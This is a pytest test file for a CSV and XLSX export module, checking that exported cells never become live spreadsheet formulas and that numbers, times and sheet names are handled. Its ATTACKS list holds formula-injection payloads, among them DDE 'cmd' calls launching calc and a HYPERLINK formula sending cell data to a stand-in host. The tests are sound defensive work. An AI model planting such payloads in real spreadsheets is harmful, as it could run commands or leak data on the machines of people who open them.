"""Exports: whatever an operator or a device wrote stays a text in the spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from central.core.tables import Table, csv_lines, xlsx

PARIS = ZoneInfo("Europe/Paris")
ATTACKS = (
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\n=1+1",
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_is_a_formula(attack: str) -> None:
    (titles, row) = read("".join(csv_lines(Table("t", ["texte"], [[attack]]), PARIS)))
    assert titles == ["texte"]
    assert row == [f"'{attack}"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_workbook_is_a_formula(attack: str) -> None:
    book = zipfile.ZipFile(io.BytesIO(xlsx([Table("t", ["texte"], [[attack]])], PARIS)))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert 't="inlineStr"' in sheet or 't="s"' in sheet


def test_numbers_and_times_stay_numbers_and_times() -> None:
    moment = datetime(2026, 7, 1, 12, 0, tzinfo=UTC)
    table = Table("t", ["n", "x", "quand", "rien", "vrai"], [[-5, 2.5, moment, None, True]])
    assert read("".join(csv_lines(table, PARIS)))[1] == ["-5", "2,5", "2026-07-01 14:00:00", "", "oui"]
    book = zipfile.ZipFile(io.BytesIO(xlsx([table], PARIS)))
    assert "<v>-5</v>" in book.read("xl/worksheets/sheet1.xml").decode()


def test_a_name_that_no_sheet_may_have_is_mended() -> None:
    book = zipfile.ZipFile(io.BytesIO(xlsx([Table("a/b[c]:*?" + "x" * 60, ["t"], [])], PARIS)))
    assert 'name="a-b-c----' in book.read("xl/workbook.xml").decode()


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_goes_through(texts: list[str]) -> None:
    table = Table("t", [str(n) for n in range(len(texts))], [texts])
    assert len("".join(csv_lines(table, PARIS))) > len(texts)
    zipfile.ZipFile(io.BytesIO(xlsx([table], PARIS))).testzip()
